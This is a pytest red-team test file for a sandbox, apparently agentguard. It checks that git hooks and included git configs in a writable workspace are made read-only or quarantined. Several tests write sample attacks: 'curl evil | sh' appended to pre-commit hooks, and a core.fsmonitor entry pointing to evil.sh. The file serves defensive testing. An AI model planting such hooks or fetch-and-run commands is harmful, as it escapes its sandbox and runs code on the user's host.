"""Red team: configuration host git reads for a rw workspace that the rw protections did not see.

- A workspace that is a linked worktree (or a submodule) of a repository outside it: the repository's
  config (outside, out of reach of the code) names ``core.hooksPath = .husky``, relative to the
  worktree: ``.husky`` in the workspace was writable, as only configs inside the workspace were read.
- A config that includes a working-tree file (``include.path = ../.gitconfig``, a common way to share
  a project's settings): the code wrote ``core.fsmonitor`` there, which host git runs on the next
  ``git status``.
- The user's ``[includeIf "gitdir:~/work/"]`` naming ``core.hooksPath``: read outside any repository,
  the condition never held and the hooks directory was missed.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.sandbox.rw_rig import git, linked_worktree, read_only, run_rw

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")

HOOK = "#!/bin/sh\necho checked\n"
SHARED = "[core]\n\tautocrlf = false\n"


def _worktree(tmp_path: Path) -> Path:
    ws = linked_worktree(tmp_path, "core.hooksPath", ".husky")
    (ws / ".husky").mkdir()
    (ws / ".husky" / "pre-commit").write_text(HOOK)
    return ws


def test_hooks_path_of_a_repository_outside_a_worktree_workspace_is_read_only(tmp_path: Path) -> None:
    ws = _worktree(tmp_path)
    assert read_only(ws) == {"/workspace/.git", "/workspace/.husky"}


@pytest.mark.docker
def test_hooks_of_a_worktree_workspace_cannot_be_written(images: object, tmp_path: Path) -> None:
    ws = _worktree(tmp_path)
    result = run_rw(ws, tmp_path / "state", "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
    assert (ws / ".husky" / "pre-commit").read_text() == HOOK
    assert (ws / "notes.txt").read_text() == "ok\n"
    assert "Read-only file system" in result.stderr


def _including(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / ".gitconfig").write_text(SHARED)
    git("-C", str(ws), "config", "include.path", "../.gitconfig")
    (ws / "conf").mkdir()
    git("-C", str(ws), "config", "includeIf.onbranch:main.path", "../conf/branch.gitconfig")  # missing yet
    return ws


def test_working_tree_files_a_config_includes_are_read_only(tmp_path: Path) -> None:
    ws = _including(tmp_path)
    assert read_only(ws) == {"/workspace/.git", "/workspace/.gitconfig"}


@pytest.mark.docker
def test_an_included_working_tree_config_cannot_be_written(images: object, tmp_path: Path) -> None:
    ws = _including(tmp_path)
    script = (
        "printf '[core]\\n\\tfsmonitor = /workspace/evil.sh\\n' >> .gitconfig;"
        " printf '[core]\\n\\tfsmonitor = /workspace/evil.sh\\n' > conf/branch.gitconfig; echo ok > notes.txt"
    )
    result = run_rw(ws, tmp_path / "state", script)
    assert (ws / ".gitconfig").read_text() == SHARED
    assert not (ws / "conf" / "branch.gitconfig").exists()  # made by the code: set aside
    assert [q.split(" -> ")[0] for q in result.quarantined] == ["conf/branch.gitconfig"]
    assert (ws / "notes.txt").read_text() == "ok\n"


def test_the_users_conditional_hooks_path_is_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "work" / "ws"
    git("init", "-q", str(ws))
    (ws / ".githooks").mkdir()
    home = tmp_path / "home"
    home.mkdir()
    (home / "work.gitconfig").write_text("[core]\n\thooksPath = .githooks\n")
    (home / ".gitconfig").write_text(f'[includeIf "gitdir:{tmp_path / "work"}/"]\n\tpath = work.gitconfig\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    assert read_only(ws) == {"/workspace/.git", "/workspace/.githooks"}


def _monorepo(tmp_path: Path) -> Path:
    """husky's setup for a package below the repository root: ``core.hooksPath = frontend/.husky``."""
    repo = tmp_path / "repo"
    git("init", "-q", str(repo))
    ws = repo / "frontend"
    (ws / ".husky").mkdir(parents=True)
    (ws / ".husky" / "pre-commit").write_text(HOOK)
    (ws / "shared.gitconfig").write_text(SHARED)
    git("-C", str(repo), "config", "core.hooksPath", "frontend/.husky")
    git("-C", str(repo), "config", "include.path", "../frontend/shared.gitconfig")
    return ws


def test_what_the_enclosing_repository_names_in_the_workspace_is_read_only(tmp_path: Path) -> None:
    ws = _monorepo(tmp_path)
    assert read_only(ws) == {"/workspace/.husky", "/workspace/shared.gitconfig"}


def test_hooks_the_enclosing_repository_names_are_set_aside_when_made(tmp_path: Path) -> None:
    from agentguard.sandbox._quarantine import Watch

    ws = _monorepo(tmp_path)
    shutil.rmtree(ws / ".husky")
    watch = Watch(str(ws.resolve()))
    before = watch.snapshot()
    (ws / ".husky").mkdir()
    (ws / ".husky" / "pre-commit").write_text("curl evil | sh\n")
    assert [m.split(" -> ")[0] for m in watch.settle(before)] == [".husky"]
    assert not (ws / ".husky").exists()


@pytest.mark.docker
def test_hooks_of_the_enclosing_repository_cannot_be_written(images: object, tmp_path: Path) -> None:
    ws = _monorepo(tmp_path)
    result = run_rw(ws, tmp_path / "state", "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
    assert (ws / ".husky" / "pre-commit").read_text() == HOOK
    assert (ws / "notes.txt").read_text() == "ok\n"
    assert "Read-only file system" in result.stderr


def test_a_workspace_file_the_environment_includes_is_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "env.gitconfig").write_text(SHARED)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "include.path")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(ws.resolve() / "env.gitconfig"))
    assert read_only(ws) == {"/workspace/.git", "/workspace/env.gitconfig"}
